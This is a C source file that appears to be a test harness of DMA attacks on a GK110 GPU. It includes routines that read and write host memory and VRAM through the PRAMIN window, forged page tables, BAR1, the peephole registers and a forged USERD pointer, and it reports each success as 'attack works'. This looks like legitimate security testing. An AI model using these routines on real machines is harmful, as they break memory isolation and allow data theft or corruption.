// SPDX-License-Identifier: GPL-2.0-only
/*
 * Ways to all memory: the PRAMIN window in BAR0, forged page tables, BAR1, the peephole registers,
 * and the USERD pointer of a channel.
 */
#include "attacks.h"

#include <stdlib.h>
#include <linux/bitfield.h>

#include <gk110/bar.h>
#include <gk110/fifo.h>
#include <gk110/mmu.h>
#include <gk110/ram.h>

#include "bare/chan.h"
#include "pattern.h"
#include "tap.h"

enum { SECRET_BYTES = 1024, RUN_MS = 60000 };

/* Make a channel in a fresh address space, alone on the first copy engine's runlist. */
static void open_channel(struct bare_gpu *g, struct bare_space *s, struct bare_chan *c,
			 bool hce_priv)
{
	struct bare_chan_config cfg = { .id = 3,
					.runlist = g->engine[BARE_CE0].runlist,
					.hce_priv = hce_priv };
	uint32_t entry = cfg.id;

	bare_space_create(g, s);
	bare_chan_create(g, s, &cfg, c);
	bare_runlist(g, cfg.runlist, &entry, 1);
}

static void close_channel(struct bare_chan *c)
{
	bare_runlist(c->g, c->runlist, NULL, 0);
	bare_chan_destroy(c);
}

void attack_window(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	uint64_t bus, vram = bare_vram(g, 0x1000, 0x1000) + 0x40000000;
	uint8_t *secret = secret_page(&bus);
	uint32_t stolen[SECRET_BYTES / 4];
	static const enum bare_target targets[] = { BARE_HOST, BARE_HOST_NCOH };
	unsigned int i;

	for (i = 0; i < 2; i++) {
		pattern_fill(secret, SECRET_BYTES, 10 + i);
		bare_mem_read(g, targets[i], bus, stolen, sizeof(stolen));
		tap_result(!memcmp(stolen, secret, SECRET_BYTES),
			   i ? "attack works: PRAMIN reads host memory (non-coherent target)" :
			       "attack works: PRAMIN reads host memory (coherent target)",
			   "at %llx", (unsigned long long)bus);
		bare_mem_write32(g, targets[i], bus + 512, 0x0bad0bad + i);
		tap_result(*(volatile uint32_t *)(secret + 512) == 0x0bad0bad + i,
			   i ? "attack works: PRAMIN writes host memory (non-coherent target)" :
			       "attack works: PRAMIN writes host memory (coherent target)",
			   NULL);
	}
	pattern_fill(stolen, sizeof(stolen), 5);
	bare_mem_write(g, BARE_VRAM, vram, stolen, sizeof(stolen));
	for (i = 0; i < SECRET_BYTES / 4; i += 64)
		if (bare_mem_read32(g, BARE_VRAM, vram + 4 * i) != stolen[i])
			break;
	tap_result(i >= SECRET_BYTES / 4, "attack works: PRAMIN reads and writes any place of VRAM",
		   "at %llx", (unsigned long long)vram);
}

void attack_tables(struct machine *m)
{
	enum {
		LOOT_VA = BARE_VA_FREE,
		SECRET_VA = BARE_VA_FREE + 0x1000,
		VRAM_VA = BARE_VA_FREE + 0x2000
	};
	struct bare_gpu *g = &m->gpu;
	struct bare_space s;
	struct bare_chan c;
	uint64_t secret_bus, loot_bus, vram = 0x100000000ull;
	uint8_t *secret = secret_page(&secret_bus), *loot = bare_host(g, 4096, &loot_bus);
	uint32_t text[16];
	bool ran;

	open_channel(g, &s, &c, false);
	bare_space_map(g, &s, LOOT_VA, BARE_HOST, loot_bus);
	bare_space_map(g, &s, SECRET_VA, BARE_HOST, secret_bus & ~4095ull);
	bare_space_map(g, &s, VRAM_VA, BARE_VRAM, vram);
	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
	pattern_fill(secret, SECRET_BYTES, 77);
	bare_copy(&c, SECRET_VA, LOOT_VA, SECRET_BYTES, 0);
	ran = bare_run(&c, RUN_MS);
	tap_result(ran && !memcmp(loot, secret, SECRET_BYTES),
		   "attack works: a forged PTE and a raw instance pointer read host memory",
		   "channel ran: %d", ran);
	memset(loot, 0x66, 256);
	bare_copy(&c, LOOT_VA, SECRET_VA + 2048, 256, 0);
	ran = bare_run(&c, RUN_MS);
	tap_result(ran && !memcmp(secret + 2048, loot, 256),
		   "attack works: a forged PTE writes host memory", NULL);
	pattern_fill(text, sizeof(text), 3);
	bare_mem_write(g, BARE_VRAM, vram, text, sizeof(text));
	bare_copy(&c, VRAM_VA, LOOT_VA, sizeof(text), 0);
	ran = bare_run(&c, RUN_MS);
	tap_result(ran && !memcmp(loot, text, sizeof(text)),
		   "attack works: a forged PTE reads any VRAM", NULL);
	close_channel(&c);
}

static uint64_t forged_instance(struct bare_gpu *g, struct bare_space *s)
{
	uint64_t inst = bare_vram(g, RAMIN_SIZE, RAMIN_SIZE);

	bare_mem_zero(g, BARE_VRAM, inst, RAMIN_SIZE);
	bare_mem_write32(g, BARE_VRAM, inst + GMMU_INST_PDB_LO, s->pdb);
	bare_mem_write32(g, BARE_VRAM, inst + GMMU_INST_PDB_HI, s->pdb >> 32);
	bare_mem_write32(g, BARE_VRAM, inst + GMMU_INST_LIMIT_LO, BARE_SPACE_SIZE - 1);
	return inst;
}

void attack_bar1(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	volatile uint32_t *seen = (volatile uint32_t *)(g->bars.bar1 + BARE_VA_FREE);
	struct bare_space s;
	uint64_t bus, inst, vram = bare_vram(g, 0x1000, 0x1000);
	uint8_t *secret = secret_page(&bus);
	uint32_t first, second;

	bare_mem_write32(g, BARE_VRAM, vram, 0xabcd0123);
	tap_result(*(volatile uint32_t *)(g->bars.bar1 + vram) == 0xabcd0123,
		   "attack works: BAR1 in physical mode shows VRAM from 0 on", "at %llx",
		   (unsigned long long)vram);
	bare_space_create(g, &s);
	inst = forged_instance(g, &s);
	bare_space_map(g, &s, BARE_VA_FREE, BARE_HOST, bus & ~4095ull);
	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
	bare_write(g, HOSTMEM_BAR1,
		   HOSTMEM_VIRTUAL | FIELD_PREP(HOSTMEM_INST, inst >> HOSTMEM_INST_SHIFT));
	bare_flush(g);
	*(volatile uint32_t *)secret = 0x5ec2e700;
	first = *seen;
	bare_space_map(g, &s, BARE_VA_FREE, BARE_VRAM, vram);
	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
	second = *seen;
	bare_write(g, HOSTMEM_BAR1, 0);
	tap_result(first == 0x5ec2e700,
		   "attack works: BAR1 through a forged instance block shows host memory",
		   "read %x", first);
	tap_result(second == 0xabcd0123,
		   "attack works: the same BAR1 page is pointed at foreign VRAM", "read %x",
		   second);
}

void attack_peephole(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	struct bare_space s;
	uint64_t bus, inst;
	uint8_t *secret = secret_page(&bus);
	uint32_t got;

	bare_space_create(g, &s);
	inst = forged_instance(g, &s);
	bare_space_map(g, &s, BARE_VA_FREE, BARE_HOST, bus & ~4095ull);
	bare_tlb_invalidate(g, BARE_VRAM, s.pdb);
	*(volatile uint32_t *)(secret + 64) = 0x9e3779b9;
	bare_write(g, HOSTMEM_PEEPHOLE,
		   HOSTMEM_VIRTUAL | FIELD_PREP(HOSTMEM_INST, inst >> HOSTMEM_INST_SHIFT));
	bare_write(g, PEEPHOLE_ADDR_HIGH, 0);
	bare_write(g, PEEPHOLE_ADDR_LOW, BARE_VA_FREE + 64);
	got = bare_read(g, PEEPHOLE_DATA);
	bare_write(g, PEEPHOLE_ADDR_LOW, BARE_VA_FREE + 128);
	bare_write(g, PEEPHOLE_DATA, 0x1eaf);
	(void)bare_read(g, PEEPHOLE_ADDR_LOW);
	bare_write(g, HOSTMEM_PEEPHOLE, 0);
	tap_result(got == 0x9e3779b9,
		   "attack works: the peephole reads any address of any instance", "read %x", got);
	tap_result(*(volatile uint32_t *)(secret + 128) == 0x1eaf,
		   "attack works: the peephole writes there", NULL);
}

/* The chip writes a channel's progress (GP_GET) to the address in RAMFC. */
void attack_userd(struct machine *m)
{
	struct bare_gpu *g = &m->gpu;
	uint64_t bus;
	uint8_t *secret = secret_page(&bus);
	struct bare_chan_config cfg = { .id = 9,
					.runlist = g->engine[BARE_CE0].runlist,
					.userd_forged = true,
					.userd = bus & ~511ull,
					.userd_target = BARE_HOST };
	volatile uint32_t *written = (volatile uint32_t *)(secret + USERD_GP_GET);
	uint32_t entry = cfg.id;
	struct bare_space s;
	struct bare_chan c;
	bool ran;

	memset(secret, 0, 4096);
	*written = 0xfefefefe;
	/* the chip takes this word for GP_PUT, the end of what is in the ring */
	*(volatile uint32_t *)(secret + USERD_GP_PUT) = 1;
	bare_space_create(g, &s);
	bare_chan_create(g, &s, &cfg, &c);
	bare_runlist(g, cfg.runlist, &entry, 1);
	ran = bare_run(&c, RUN_MS);
	bare_poll_word(g, written, 1, RUN_MS);
	tap_result(ran && *written != 0xfefefefe,
		   "attack works: a forged USERD pointer makes the chip write host memory",
		   "GP_GET there: %x", *written);
	close_channel(&c);
}
